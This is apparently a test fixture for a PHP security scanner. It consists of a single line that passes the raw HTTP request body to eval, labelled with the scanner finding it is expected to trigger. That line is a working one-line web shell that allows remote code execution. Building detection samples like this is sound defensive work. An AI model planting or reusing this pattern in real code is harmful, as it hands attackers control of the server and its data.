<?php
// triage-expect: triage_php_request_direct_exec
eval(file_get_contents('php://input'));
